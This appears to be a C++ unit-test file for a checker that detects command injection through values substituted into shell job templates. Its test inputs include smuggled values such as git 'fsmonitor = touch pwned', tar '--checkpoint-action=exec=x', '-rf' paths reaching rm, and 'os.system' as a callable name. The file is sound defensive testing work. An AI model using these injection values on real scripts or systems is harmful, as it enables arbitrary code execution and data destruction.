  EXPECT_FALSE(refuses(placement(task("curl -fsSL -o data.json \"%X%\"\npython3 train.py --data data.json")),
                       "https://example.org/f.tar.gz?sig=abc%2F&v=2"));
  EXPECT_TRUE(refused(task("curl -fsSL -o run.py \"%X%\"\npython3 run.py"), "value-parsed-as-code"));
  // The server names the file with curl -J or wget --content-disposition
  // (attack 158): any file here, a module python -m imports among them.
  for (const char* fetch : {"curl -fsSL -OJ \"%X%\"", "wget -q --content-disposition \"%X%\"", "wget -q -r \"%X%\""})
    EXPECT_TRUE(refused(task(std::string(fetch) + "\npython3 -m torch.distributed.run train.py"), "placeholder-command"))
        << fetch;
  EXPECT_FALSE(refused(task("wget -Omodel.pt \"%X%\"\npython3 -m torch.distributed.run train.py"), "placeholder-command"));
  EXPECT_FALSE(refused(task("IMAGE=\"%X%\"\nSQSH=\"/scratch/images/${IMAGE//[\\/:]/+}.sqsh\"\n"
                            "enroot import -o \"$SQSH\" \"docker://$IMAGE\"\npython3 train.py"),
                       "value-parsed-as-code"));
  // Code that spells the last component of each file it opens writes
  // only those (fr hunt 62): a marker under a directory a value names is
  // no module, script or program run later.
  for (const char* later : {"python3 -c 'import trainer.utils'", "python3 train.py", "python3 -m trainer.main --out \"$OUT\"",
                            "bash scripts/train.sh \"$OUT\""})
    for (const char* open : {"open(sys.argv[1] + \"/READY\", \"w\")", "open(f\"{sys.argv[1]}/status.json\", \"w\")",
                             "open(os.path.join(sys.argv[1], \"env.json\"), \"w\")"})
      EXPECT_TRUE(rules(task(std::string("OUT=\"runs/%X%\"\npython3 - \"$OUT\" <<'PY'\nimport os, sys\n") + open +
                             "\nPY\n" + later))
                      .empty())
          << open << " then " << later;
  for (const char* open : {"open(sys.argv[1] + \"/x\" + sys.argv[1], \"w\")",
                           "open(sys.argv[1] + \"/train.py\" if len(sys.argv) > 2 else \"b.json\", \"w\")"})
    EXPECT_TRUE(refused(task(std::string("OUT=\"runs/%X%\"\npython3 - \"$OUT\" <<'PY'\nimport sys\n") + open +
                             "\nPY\npython3 train.py"),
                        "value-parsed-as-code"))
        << open;
  // A configuration file a program reads by an environment variable's name
  // (PIP_CONFIG_FILE, CONDARC) chooses what it installs (attack 159).
  for (const char* config : {"printf '[global]\\nindex-url = %s\\n' \"%X%\" > job-pip.ini\nexport PIP_CONFIG_FILE=$PWD/job-pip.ini\n"
                             "pip install -r requirements.txt",
                             "printf 'channels:\\n  - %s\\n' \"%X%\" > job-conda.yml\nexport CONDARC=$PWD/job-conda.yml\n"
                             "conda env create -f environment.yml"})
    EXPECT_TRUE(refused(task(config), "value-parsed-as-code")) << config;
  // A standard module's name, and an awk regular expression with '@' (not
  // gawk's @f(); attack 154 fr-01), are no such thing.
  EXPECT_FALSE(refused(task("export N=\"%X%\"\necho \"$N\" > \"$F\"\npython3 -c 'import json, os'"),
                       "value-parsed-as-code"));
  EXPECT_FALSE(refused(task("awk -v name=\"%X%\" '{ gsub(/@RUN_NAME@/, name) } 1' in.tmpl > README.md"),
                       "value-parsed-as-code"));
  for (const char* program : {"{ @f(name) }", "@load \"x\"; { print name }", "@include \"lib.awk\"; { print name }"})
    EXPECT_TRUE(refused(task(std::string("awk -v name=\"%X%\" '") + program + "' in.txt"), "value-parsed-as-code")) << program;
}

// Ordinary values through everyday config handling (fr hunt 58): a backup
// copy named through a variable of one literal text, jq -n into a mktemp
// file then mv, a Python check that only reads, yq re-encoding a JSON file,
// json.dump from the environment.
TEST(ValueSinks, EncodedConfigsKeepOrdinaryValues) {
  const std::string value = "BERT fine-tune \xe2\x80\x94 Anna's run [v2]";
  for (const char* form :
       {"RUN_DIR=runs/current\ncat > \"$RUN_DIR/config.yaml\" <<EOF\nname: \"%X%\"\nEOF\n"
        "cp \"$RUN_DIR/config.yaml\" \"$RUN_DIR/config.yaml.bak\"\npython3 train.py --config \"$RUN_DIR/config.yaml\"",
        "TMP=$(mktemp)\njq -n --arg name \"%X%\" '{name: $name}' > \"$TMP\"\nmv \"$TMP\" run_config.json\n"
        "python3 -m trainer.main --cfg run_config.json",
        "jq -n --arg name \"%X%\" '{run_name: $name}' > run.json\n"
        "python3 -c 'import json; cfg = json.load(open(\"run.json\")); assert cfg[\"lr\"] > 0'\npython3 train.py --config run.json",
        "jq -n --arg name \"%X%\" '{name: $name}' > runs/run.json\nyq -P '.' runs/run.json > runs/run.yaml\n"
        "python3 train.py --config runs/run.yaml",
        "export RUN_NAME=\"%X%\"\npython3 -c 'import json, os; json.dump({\"run_name\": os.environ[\"RUN_NAME\"]}, "
        "open(\"run_meta.json\", \"w\"))'\npython3 train.py --meta run_meta.json"})
    EXPECT_FALSE(refuses(placement(task(form)), value)) << form;
  // (fr hunt 59: a run's name under run:, a backup of an encoded file,
  // process ids and numeric ps fields in arithmetic.)
  for (const char* form :
       {"jq -n --arg name \"%X%\" '{run: {name: $name}}' > overrides.json\npython3 train.py --overrides overrides.json",
        "cp base.yaml cfg.yaml\nexport N=\"%X%\"\nyq -i '.run_name = strenv(N)' cfg.yaml\nsed -i.bak 's/^precision:.*/precision: 16/' "
        "cfg.yaml\npython3 train.py --config cfg.yaml",
        "python3 train.py --name \"%X%\" &\nPID=$!\nn=$(pgrep -c -f train.py)\nif (( n == 0 )); then echo gone; fi",
        "python3 train.py --name \"%X%\" &\nPID=$!\nRSS_KB=$(ps -o rss= -p \"$PID\")\necho $(( RSS_KB / 1024 ))"})
    EXPECT_FALSE(refuses(placement(task(form)), value)) << form;
  EXPECT_TRUE(refuses(placement(task("jq -n --arg name \"%X%\" '{run: {cmd: $name}}' > o.json\npython3 t.py --o o.json")), value));
  // Not when another write puts the value raw into the file copied, when
  // yq prints a scalar (raw), or when the code also writes otherwise.
  for (const char* form :
       {"TMP=$(mktemp)\njq -n --arg name \"%X%\" '{name: $name}' > \"$TMP\"\necho \"x: %X%\" >> \"$TMP\"\n"
        "mv \"$TMP\" run_config.json\npython3 -m trainer.main --cfg run_config.json",
        "jq -n --arg name \"%X%\" '{name: $name}' > run.json\nyq '.name' run.json > run.yaml\n"
        "python3 train.py --config run.yaml",
        "export RUN_NAME=\"%X%\"\npython3 -c 'import json, os; f = open(\"run_meta.json\", \"w\"); json.dump({}, f); "
        "f.write(os.environ[\"RUN_NAME\"])'\npython3 train.py --meta run_meta.json"})
    EXPECT_TRUE(refuses(placement(task(form)), "x\nkey: 1")) << form;
}

// What the job's processes show of themselves (their command lines and
// environments in /proc, ps, pgrep) holds any value the template gave a
// command (attack 152); a count of them is a number.
TEST(ValueSinks, ProcessListingsIntoArithmetic) {
  using Q = sg::render::Quoting;
  for (const char* read : {"B=$(tr '\\0' '\\n' < /proc/$PID/environ | sed -n 's/^MAX_STEPS=//p')",
                           "B=$(cat /proc/$PID/cmdline | tr '\\0' ' ' | cut -d' ' -f3)",
                           "B=$(ps -o args= -p $PID | awk '{print $3}')", "B=$(pgrep -a sleep | cut -d' ' -f4)"})
    EXPECT_EQ(placement(task(std::string("MAX_STEPS=%X% sleep 30 --steps \"%X%\" &\nPID=$!\n") + read +
                             "\nif (( B > 100 )); then echo long; fi"))
                  .context.quoting,
              Q::Arithmetic)
        << read;
  for (const char* count : {"B=$(pgrep -c python)", "B=$(tr '\\0' '\\n' < /proc/$PID/environ | grep -c STEPS)"})
    EXPECT_NE(placement(task(std::string("MAX_STEPS=%X% sleep 30 &\nPID=$!\n") + count +
                             "\nif (( B > 100 )); then echo long; fi"))
                  .context.quoting,
              Q::Arithmetic)
        << count;
}

// A program word named at run time ($g with g=f, "$s" of a loop, "$@") may
// be any of the template's functions: what they print reaches its output.
TEST(ValueSinks, FunctionsCalledByARunTimeName) {
  for (const char* form : {"g=f; $g > run.sh; bash run.sh", "for s in prep f; do \"$s\"; done > run.sh\nbash run.sh",
                           "\"${@:-f}\" > run.sh; bash run.sh", "g=f\n$g | bash", "run() { \"$@\"; }\nrun f | bash"}) {
    const auto body = task(std::string("N=\"%X%\"\nf() { echo \"$N\"; }\n") + form);
    EXPECT_TRUE(refused(body, "value-parsed-as-code")) << form;
  }
  // (A variable only ever given other names calls none of them.)
  EXPECT_FALSE(refused(task("N=\"%X%\"\nf() { echo \"$N\"; }\nPY=python3\n$PY t.py > run.sh"), "value-parsed-as-code"));
}

// A program's configuration directory (~/.config/git/config, a file under
// $XDG_CONFIG_HOME, $CARGO_HOME, ~/.kube) holds settings, whatever the
// file's name says: a value there is a data field, and one under a key
// naming a command git or cargo runs (core.fsmonitor, core.pager,
// credential.helper, build.rustc-wrapper) is one plain word.
TEST(ValueSinks, ConfigurationDirectoriesHoldSettings) {
  for (const char* form : {"echo \"project = %X%\" > ~/.config/wandb/settings", "echo \"%X%\" > \"$CARGO_HOME/env\"",
                           "echo \"x: %X%\" > \"${XDG_CONFIG_HOME}/tool/prefs\"", "echo \"%X%\" > cfg/git/config",
                           "echo \"%X%\" > \"$HOME/.kube/cache\""}) {
    const auto p = placement(task(form));
    EXPECT_TRUE(refuses(p, "a\n[core]\nfsmonitor = touch pwned")) << form;
    EXPECT_FALSE(refuses(p, "resnet50")) << form;
  }
  for (const char* form : {"echo \"[core]\n  fsmonitor = %X%\" > ~/.config/git/config",
                           "printf \"[core]\\n\\tpager = %s\\n\" \"%X%\" > \"$XDG_CONFIG_HOME/git/config\"",
                           "echo \"[credential]\nhelper = %X%\" > \"$HOME/.config/git/config\"",
                           "echo \"[build]\nrustc-wrapper = '%X%'\" > .cargo/config.toml"}) {
    const auto p = placement(task(form));
    EXPECT_TRUE(refuses(p, "touch pwned")) << form;
    EXPECT_FALSE(refuses(p, "less")) << form;
  }
  // (fr hunt 65) the whole value of a key naming prose, on its line, may
  // hold an apostrophe: git and INI readers take it as text.
  const auto name = placement(task("cat > \"$HOME/.config/git/config\" <<EOF\n[user]\n\tname = %X%\nEOF"));
  EXPECT_FALSE(refuses(name, "Se\u00e1n O'Brien"));
  EXPECT_TRUE(refuses(name, "x\n[core]\nfsmonitor = touch pwned"));
  EXPECT_TRUE(refuses(placement(task("cat > \"$HOME/.config/tool/prefs\" <<EOF\ncache = %X%\nEOF")), "O'Brien"));
}

// fr hunt 64: a launcher whose program is written out, however the template
// reaches it: PYTHON=${PYTHON:-python3} and PY="$VIRTUAL_ENV/bin/python"
// name python; a launcher array's appends under an if and its "$((...))"
// elements keep its program; the ':' of a heterogeneous srun step starts
// another component, whose script is none of the first's operands.
TEST(ValueSinks, LaunchersWrittenOutHoweverReached) {
  for (const char* form : {"PYTHON=${PYTHON:-python3}\n$PYTHON -u train.py --run-name \"%X%\"",
                           "PYTHON=\"$VIRTUAL_ENV/bin/python\"\n$PYTHON train.py --run-name \"%X%\"",
                           "PY=${CONDA_PREFIX:-/opt/conda}/bin/python\n$PY t.py --name \"%X%\"",
                           "CMD=(python3 -u train.py)\n[ -n \"$S\" ] && CMD+=(--seed \"$S\")\n\"${CMD[@]}\" --run-name \"%X%\"",
                           "L=(accelerate launch --num_processes \"$((SLURM_NNODES * 8))\")\nsrun \"${L[@]}\" t.py --run_name \"%X%\"",
                           "srun --het-group=0 python3 prep.py --dataset \"%X%\" : --het-group=1 python3 train.py",
                           // (fr hunt 65) a located default; appends in case arms.
                           "PYTHON=${PYTHON:-$(command -v python3)}\n$PYTHON prepare.py \"%X%\"",
                           "L=(torchrun --nproc_per_node 8)\ncase \"$N\" in\n  1) L+=(--standalone) ;;\n  *) L+=(--nnodes "
                           "\"$N\") ;;\nesac\nsrun \"${L[@]}\" train.py --dataset \"%X%\"",
                           // (fr hunt 65) the := idiom gives what PYTHON=${PYTHON:-python3} does.
                           ": \"${PYTHON:=python3}\"\n$PYTHON prepare.py --dataset \"%X%\""}) {
    const auto body = task(form);
    EXPECT_TRUE(rules(body).empty()) << form;
  }
  for (const char* form : {"R=${R:-eval}\n$R \"%X%\"", ": ${R:=eval}\n$R \"%X%\"",
                           ": \"${P:=python3}\"\nread -r P < f\n$P t.py \"%X%\"", "f() { : \"${P:=$1}\"; }\nf \"%X%\"\n$P t.py", "P=${P:-bash}\n$P -c \"echo %X%\"", "X=$(pick)\n$X \"%X%\"",
                           "C=(python3 t.py)\nfor x in a; do C+=(-c); done\n\"${C[@]}\" \"%X%\"",
                           "C=(python3 t.py)\nC=(bash -c)\n\"${C[@]}\" \"%X%\"", "L=(\"$(pick)\" t.py)\n\"${L[@]}\" \"%X%\""}) {
    const auto body = task(form);
    EXPECT_FALSE(rules(body).empty()) << form;
  }
}

// attack 162: a trap's handler prints where its shell's output goes when it
// runs: a subshell's EXIT into that subshell's pipe, a function's RETURN
// where the function's output goes.
TEST(ValueSinks, TrapHandlersPrintWhereTheirShellsOutputGoes) {
  for (const char* form : {"( trap 'echo \"$NOTE\"' EXIT; echo 'echo setup done' ) | sh",
                           "gen() { trap 'printf \"%s\\n\" \"$NOTE\"' RETURN; echo true; }\ngen | bash",
                           "emit() { trap 'echo \"$NOTE\"' RETURN; :; }\nS=$(emit)\neval \"$S\"",
                           "lines() { trap 'echo \"$NOTE\"' RETURN; echo x=1; }\nlines | tee env.sh | cat\nsource ./env.sh",
                           "say() { echo \"$NOTE\"; }\n( trap say EXIT; true ) | sh",
                           "say() { echo \"$NOTE\"; }\nrun() { trap say RETURN; :; }\nrun > job.sh\nbash job.sh"}) {
    const auto body = task(std::string("NOTE=\"%X%\"\n") + form);
    EXPECT_TRUE(refused(body, "value-parsed-as-code")) << form;
  }
  EXPECT_FALSE(refused(task("NOTE=\"%X%\"\ntrap 'echo \"[done] $NOTE: ok\"' EXIT\npython3 t.py"), "value-parsed-as-code"));
  // (attack 163) under set -T a DEBUG trap runs inside every $(...): what
  // it prints is captured there, so no $(...) is known to print a program.
  for (const char* form : {"stamp() { echo \"$NOTE\"; }\ntrap stamp DEBUG\nPY=${PY:-$(command -v python3)}\n$PY t.py",
                           "trap 'echo \"$NOTE\"' DEBUG\nP=$(hostname)\n$P t.py"}) {
    const auto r = rules(task(std::string("set -o functrace\nNOTE=\"%X%\"\n") + form));
    EXPECT_FALSE(r.empty()) << form;
  }
  EXPECT_TRUE(rules(task("set -o functrace\nNOTE=\"%X%\"\nPY=${PY:-$(command -v python3)}\n$PY t.py")).empty());
}

// attack 163: apptainer --env-file evaluates the file as shell (its
// assignments and expansions), not as docker's KEY=VALUE lines.
TEST(ValueSinks, ApptainerEnvFilesAreShell) {
  for (const char* form : {"apptainer exec --env-file job.env img.sif python3 t.py",
                           "singularity run --env-file=job.env img.sif"}) {
    const auto body = task(std::string("cat > job.env <<EOF\nRUN_NAME=%X%\nEOF\n") + form);
    EXPECT_TRUE(refused(body, "value-parsed-as-code")) << form;
  }
  EXPECT_TRUE(rules(task("cat > job.env <<EOF\nRUN_NAME=%X%\nEOF\ndocker run --env-file job.env img python3 t.py")).empty());
}

// fr hunt 66: a literal start cut (${TAG#v}) puts the value's first or
// its next character first, not any: each way is checked exactly.
TEST(ValueSinks, ALiteralStartCutIsExact) {
  for (const char* form : {"T=\"%X%\"\npython3 e.py --version \"${T#v}\"", "T=\"%X%\"\ngit tag \"${T#release-}\""}) {
    const auto p = placement(task(form));
    EXPECT_FALSE(refuses(p, "v1.2.3-rc1")) << form;
  }
  const auto p = placement(task("T=\"%X%\"\npython3 e.py --version \"${T#v}\""));
  EXPECT_TRUE(refuses(p, "v-rc1"));
  EXPECT_TRUE(refuses(p, "-v1"));
  EXPECT_FALSE(refuses(p, "vv-1"));
  // (${T:1} may put any character first.)
  EXPECT_TRUE(refuses(placement(task("T=\"%X%\"\npython3 e.py --version \"${T:1}\"")), "v1.2.3-rc1"));
}

// fr hunt 63: a log line the shell prints for a trap handler, or that cat
// or tee copy into a log, is a log line; into a data file it is data.
TEST(ValueSinks, LogLinesThroughATrapOrTeeStayLogLines) {
  const std::string handler = "N=\"%X%\"\non_timeout() {\n  echo \"[requeue] $N: saving state\"\n  scontrol requeue \"$SLURM_JOB_ID\"\n}\n";
  for (const char* form : {"trap on_timeout USR1\npython3 t.py &\nwait", "trap -- on_timeout USR1 TERM\non_timeout",
                           "trap 'on_timeout' EXIT"}) {
    const auto p = placement(task(handler + form));
    EXPECT_FALSE(refuses(p, "Ada's ResNet-50 [ablation], lr #2")) << form;
  }
  for (const char* form : {"exec > state.yaml\ntrap on_timeout USR1", "on_timeout > state.yaml"}) {
    const auto p = placement(task(handler + form));
    EXPECT_TRUE(refuses(p, "Ada's ResNet-50 [ablation], lr #2")) << form;
  }
  for (const char* form : {"echo \"[start] %X%: $(date)\" | tee -a logs/job.log", "echo \"[start] %X%: up\" | cat",
                           "{ echo \"[start] %X%: up\"; } | tee x.log | cat"}) {
    const auto p = placement(task(form));
    EXPECT_FALSE(refuses(p, "Ada's run, #2")) << form;
  }
  for (const char* form : {"echo \"[start] %X%: up\" | tee run.yaml", "echo \"[start] %X%: up\" | tee x.log | python3 p.py",
                           "echo \"[start] %X%: up\" | cat - base.ini > run.ini"}) {
    const auto p = placement(task(form));
    EXPECT_TRUE(refuses(p, "Ada's run, #2")) << form;
  }
}

// Review 39 F5: what an eval string prints into a shell: the variables it
// names and the functions it calls.
TEST(ValueSinks, AnEvalStringsOutputIntoAShellIsCode) {
  for (const char* form : {"emit() { echo \"$1\"; }\nX=\"%X%\"\neval 'emit \"$X\"' | bash",
                           "X=\"%X%\"\neval 'echo \"$X\"' | bash", "emit() { echo \"%X%\"; }\neval emit | bash"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(rules(task("X=\"%X%\"\neval 'echo \"$X\"' >> log.txt")).empty());
  // A coprocess's output read by a shell.
  for (const char* form : {"coproc echo \"%X%\"\nbash <&\"${COPROC[0]}\"", "coproc W { echo \"%X%\"; }\nbash <&\"${W[0]}\""})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(rules(task("coproc echo \"%X%\"\ncat <&\"${COPROC[0]}\" > log.txt")).empty());
}

// Attack 127 fr-01: the file curl -o or wget -O writes is no file they
// read as data: a presigned URL's '&' is fine.
TEST(ValueSinks, TheFileADownloadWritesIsNotOneItReads) {
  for (const char* form : {"curl -fsSL -o shard.tar \"%X%\"\ntar xf shard.tar", "wget -O shard.tar \"%X%\""})
    EXPECT_FALSE(refuses(placement(task(form)), "https://h.example/d/s.tar?download=1&token=abc")) << form;
}

// A value naming the Python callable a config gives Hydra or jsonargparse
// chooses code: one name after the module the template writes.
TEST(ValueSinks, CallableNamesAreOneName) {
  for (const char* form : {"cat > conf/model.yaml <<EOF\nmodel:\n  _target_: torchvision.models.%X%\nEOF",
                           "cat > cfg.json <<EOF\n{\"model\": {\"_target_\": \"m.%X%\"}}\nEOF",
                           "cat > cfg.yaml <<EOF\nmodel: {class_path: m.%X%, init_args: {}}\nEOF",
                           "echo \"model: {_target_: m.%X%}\" > cfg.yaml",
                           "python3 train.py model._target_=m.%X% trainer.max_epochs=10",
                           "python3 train.py +model._target_=%X%",
                           "python3 main.py fit --model.class_path %X%",
                           "python3 main.py fit --model.class_path=m.%X%",
                           // logging.config.dictConfig calls class: and "()" (attack 213).
                           "cat > logging.yaml <<EOF\nformatters:\n  plain:\n    class: %X%\nEOF",
                           "cat > log.json <<EOF\n{\"handlers\": {\"h\": {\"()\": \"%X%\"}}}\nEOF"}) {
    const auto p = placement(task(form));
    EXPECT_TRUE(refuses(p, "os.system")) << form;
    EXPECT_TRUE(refuses(p, "resnet.torch.hub.load")) << form;
    EXPECT_FALSE(refuses(p, "resnet50")) << form;
  }
  for (const char* form : {"jq -n --arg m \"%X%\" '{model: {_target_: (\"m.\" + $m)}}' > cfg.yaml",
                           "M=\"%X%\" yq -i '.model.class_path = \"m.\" + strenv(M)' cfg.yaml"})
    EXPECT_TRUE(refuses(placement(task(form)), "os.system")) << form;
  // Elsewhere a dotted value is data.
  EXPECT_FALSE(refuses(placement(task("cat > cfg.yaml <<EOF\nmodel: {name: %X%}\nEOF")), "torchvision.models.resnet50"));
  EXPECT_FALSE(refuses(placement(task("python3 train.py model.name=%X%")), "torchvision.models.resnet50"));
  EXPECT_FALSE(refuses(placement(task("cat > cfg.yaml <<EOF\nnum_class: 10\nsubclass: %X%\nEOF")), "a.b"));
}

}  // namespace

// attack 164: gdb reads -eval-command, -command and any prefix of them as
// getopt_long_only does; lua, expect and gnuplot run their code option and
// then still their file operands; nodemon joins its words for sh -c.
TEST(ValueSinks, CommandOptionsInEverySpellingAndFilesAfterCode) {
  for (const char* form : {"gdb -batch -eval-command=\"%X%\" ./a.out", "gdb -batch -eval-command \"%X%\" ./a.out",
                           "gdb -init-eval-command=\"%X%\" ./a.out", "gdb --eval=\"%X%\" ./a.out",
                           "gdb -comm \"%X%\" ./a.out", "gdb --x=\"%X%\" ./a.out", "gdb -x\"%X%\" ./a.out",
                           "nodemon --exec python3 train.py --name \"%X%\"", "nodemon train.js \"%X%\""}) {
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  }
  for (const char* form : {"expect -c 'set timeout 120' \"%X%\"", "gnuplot -e 'set terminal dumb' \"%X%\"",
                           "lua -e 'x=1' \"%X%\"", "expect -c 'set t 1' -f \"%X%\""}) {
    EXPECT_TRUE(refuses(placement(task(form)), "/tmp/evil.tcl")) << form;
    EXPECT_TRUE(refuses(placement(task(form)), "../evil")) << form;
  }
  // The program's own arguments after --args, and perl's after -e, are data.
  for (const char* form : {"gdb -batch -ex run --args ./a.out --name \"%X%\"", "perl -e 'print @ARGV' \"%X%\"",
                           "gdb -e ./a.out -batch -ex bt"}) {
    EXPECT_TRUE(rules(task(form)).empty()) << form;
  }
  EXPECT_FALSE(refuses(placement(task("perl -e 'print @ARGV' \"%X%\"")), "../notes/a b.txt"));
}

// fr hunts 80, 82: a cut of a variable into itself outside any loop or
// function (OUT="${OUT%/}", MODEL="${MODEL#hf://}") is made once, on what
// the variable held before; in a loop, again and again.
TEST(ValueSinks, AVariableCutIntoItselfOnceIsCutOnce) {
  for (const char* form : {"OUT=\"%X%\"\nOUT=\"${OUT%/}\"\nmkdir -p \"$OUT\"",
                           "M=\"%X%\"\nM=\"${M#hf://}\"\npython3 train.py --model \"$M\"",
                           "M=\"%X%\"\nM=\"${M#hf://}\"\nM=\"${M%/}\"\npython3 train.py \"$M\""}) {
    const auto pl = placement(task(form));
    EXPECT_FALSE(refuses(pl, "runs/a-b/")) << form;
    EXPECT_FALSE(refuses(pl, "hf://meta-llama/Llama-3.1-8B")) << form;
    EXPECT_TRUE(refuses(pl, "hf://-rf") || refuses(pl, "-rf/")) << form;
  }
  // Both cuts, in order: hf://-x/ loses hf:// and then its '/'.
  EXPECT_TRUE(refuses(placement(task("M=\"%X%\"\nM=\"${M#hf://}\"\nM=\"${M%/}\"\nrm -rf \"$M\"")), "hf://-x/"));
  for (const char* loop : {"while [ -n \"$M\" ]; do M=\"${M#?}\"; done", "f() { M=\"${M#?}\"; }\nf\nf"}) {
    const auto pl = placement(task(std::string("M=\"%X%\"\n") + loop + "\npython3 train.py \"$M\""));
    EXPECT_TRUE(refuses(pl, "ab-c")) << loop;
  }
  // An end cut again and again (attack 197: archive suffixes dropped in a
  // loop) is still a cut of the end: the start stays.
  const auto suffixes = placement(task("N=\"%X%\"\nwhile [[ \"$N\" == *.gz || \"$N\" == *.tar ]]; do N=\"${N%.*}\"; done\n"
                                       "mkdir -p \"data/$N\"\nrm -rf \"$N\""));
  EXPECT_FALSE(refuses(suffixes, "imagenet-mini.tar.gz"));
  for (const char* bad : {"-rf.tar.gz", "x/..y.gz", "/etc.gz"}) EXPECT_TRUE(refuses(suffixes, bad)) << bad;
}

// Own review (session 41): a variable cut two ways, under an if and its
// else, reaches the part by one of them, never by both in turn; a cut of
// a cut is each of the first's ways followed by the second's, so what
// two replacements make together is checked (X=${V//b/a}; Y=${X//a/-}
// makes "-rf" of "brf"). fr hunt 67: a suffix cut after ${V##*/} keeps
// what the first cut proved.
TEST(ValueSinks, CutsOfCutsAndCutsOfEachBranch) {
  const auto dash = [](const char* form) { return sg::render::later_use_check("brf", placement(task(form)).context) != nullptr; };
  for (const char* form : {"V=\"%X%\"\nif [ -n \"$Q\" ]; then W=${V//b/-}; else W=${V//-/x}; fi\nrm \"$W\"",
                           "V=\"%X%\"\nX=${V//b/a}\nY=${X//a/-}\nrm \"$Y\"", "V=\"%X%\"\nX=${V//b/a}\nY=$X\nZ=${Y//a/-}\nrm \"$Z\"",
                           "V=\"%X%\"\nX=${V%f}\nY=${X/#b/-}\nrm \"$Y\"", "V=\"%X%\"\nX=${V//r/-}\nY=${X:1}\nrm \"$Y\""}) {
    EXPECT_TRUE(dash(form) || !rules(task(form)).empty()) << form;
  }
  EXPECT_FALSE(dash("V=\"%X%\"\nX=${V//b/a}\nrm \"$X\""));
  const auto dots = placement(task("V=\"%X%\"\nW=${V//a/.}\nU=${V//./a}\n[ -n \"$Q\" ] && U=$W\necho hi > \"logs/$U/f\""));
  EXPECT_NE(dots.roles.check("aa"), nullptr);
  // N=${V##*/}; S=${N%.py}: the name after the last '/', its end cut.
  for (const char* form : {"E=\"%X%\"\nN=\"${E##*/}\"\nS=\"${N%.py}\"\nmkdir -p \"logs/${S}\"",
                           "I=\"%X%\"\nN=\"${I##*/}\"\nT=\"${N#*:}\"\nB=\"${N%%:*}\"\ntouch \"/scratch/c/${B}_${T}.sqsh\""}) {
    const auto pl = placement(task(form));
    EXPECT_FALSE(refuses(pl, "train.py")) << form;
    EXPECT_FALSE(refuses(pl, "nvcr.io/nvidia/pytorch:24.01-py3")) << form;
    EXPECT_FALSE(refuses(pl, "meta-llama/Llama-2-7b-hf")) << form;
    EXPECT_TRUE(refuses(pl, "a/.bashrc")) << form;
    EXPECT_TRUE(refuses(pl, "x/..")) << form;
  }
  // A loop cutting a variable again and again reaches a fixed point.
  EXPECT_TRUE(refuses(placement(task("N=\"%X%\"\nwhile [ -n \"$N\" ]; do N=${N//a/-a}; done\nrm \"$N\"")), "a"));
}

// attack 165: jq and GNU sed read their options after operands too, so a
// -L or -f there names code; a JVM system property that says where code,
// native libraries or configuration files come from, or names a class it
// loads, names code.
TEST(ValueSinks, OptionsAfterOperandsAndJavaPropertiesNamingCode) {
  for (const char* form : {"jq -f transforms/prep.jq -L \"%X%\" params.json", "jq . data.json -L \"%X%\"",
                           "jq --arg a b -L\"%X%\" -f prog.jq", "sed -n -f filters/base.sed raw.log -f \"%X%\"",
                           "sed 's/a/b/' in.txt -e \"%X%\"", "java -Djava.system.class.loader=\"%X%\" -jar app.jar",
                           "java -D\"%X%\"=1 -jar app.jar"}) {
    const auto r = rules(task(form));
    EXPECT_FALSE(r.empty()) << form;
  }
  for (const char* form : {"java -Djava.library.path=\"%X%\" -cp app Main", "java -Dlog4j.configurationFile=\"%X%\" -jar a.jar"}) {
    EXPECT_TRUE(refuses(placement(task(form)), "/tmp/evil")) << form;
    EXPECT_FALSE(refuses(placement(task(form)), "native")) << form;
  }
  // Data stays data: an input file after the script, a property of the app's own.
  for (const char* form : {"jq -r .lr config.json \"%X%\"", "sed -n 's/x/y/p' \"%X%\"", "java -Dapp.run.name=\"%X%\" -jar app.jar",
                           "jq -n --arg name \"%X%\" '{name: $name}'"}) {
    EXPECT_TRUE(rules(task(form)).empty()) << form;
    EXPECT_FALSE(refuses(placement(task(form)), "my run's data.json")) << form;
  }
}

// fr hunt 68: an element's key in a compound assignment is a subscript,
// no glob (CFG=([run_name]="$V") keeps the value whole); getopts with an
// option string of letters that all take a value gives OPTARG the whole
// word after -n, or the word without its -n start.
TEST(ValueSinks, KeyedElementsAndGetoptsArguments) {
  for (const char* form : {"declare -A CFG=(\n  [lr]=0.1\n  [run_name]=\"%X%\"\n)\npython3 t.py --run-name \"${CFG[run_name]}\"",
                           "A=([0]=\"%X%\")\npython3 t.py --run-name \"${A[0]}\"",
                           "launch() {\n  local n OPTIND opt\n  while getopts \"n:d:\" opt; do\n    case \"$opt\" in\n      n) "
                           "n=\"$OPTARG\" ;;\n    esac\n  done\n  srun python3 t.py --name \"$n\"\n}\nlaunch -n \"%X%\""}) {
    const auto pl = placement(task(form));
    EXPECT_FALSE(refuses(pl, "Bob's run (lr=3e-4) \xe2\x9c\xa8")) << form;
    EXPECT_FALSE(refuses(pl, "imagenet-1k/train v2")) << form;
  }
  // A glob among the elements still finds names; a flag in the option
  // string lets OPTARG be any part.
  EXPECT_FALSE(rules(task("F=(*.txt)\n\"${F[0]}\" \"%X%\"")).empty());
  const auto flags = placement(task("f() {\n  while getopts \"qn:\" o; do n=$OPTARG; done\n  rm \"$n\"\n}\nf -n \"%X%\""));
  EXPECT_TRUE(refuses(flags, "a-b"));
}

// attack 166: a value that is an element's key in a compound assignment
// (A=([configs]=1 [$V]=1)) is one of the array's keys, which ${!A[@]}
// reads: a word there, however the array was written. Literal text of
// another language run through a runner (env X=v python3 -c
// '...environ["X"]') is no subscript bash evaluates (fr-01).
TEST(ValueSinks, CompoundKeysAreKeysAndRunnersRunOtherLanguages) {
  const auto renders = [](const std::string& form, const std::string& name) {
    const auto c = sg::compiler::compile(sg::compiler::Source("t.tpl", kHead + task(form)));
    if (!c.renderer) return false;
    sg::render::Values values;
    values.task = {{"id", "0123456789abcdef"}, {"name", name}};
    std::string script;
    std::vector<sg::render::RenderError> errors;
    return c.renderer->render(values, script, errors);
  };
  const char* split = "declare -A I=([configs]=1 [%X%]=1)\ntar -czf b.tgz ${!I[@]}";
  EXPECT_FALSE(renders(split, "data --checkpoint-action=exec=x"));
  EXPECT_TRUE(renders(split, "data"));
  const char* quoted = "declare -A I=([configs]=1 [\"%X%\"]=1)\ntar -cf b.tar \"${!I[@]}\"";
  EXPECT_FALSE(renders(quoted, "--use-compress-program=x"));
  EXPECT_TRUE(renders(quoted, "data v2"));
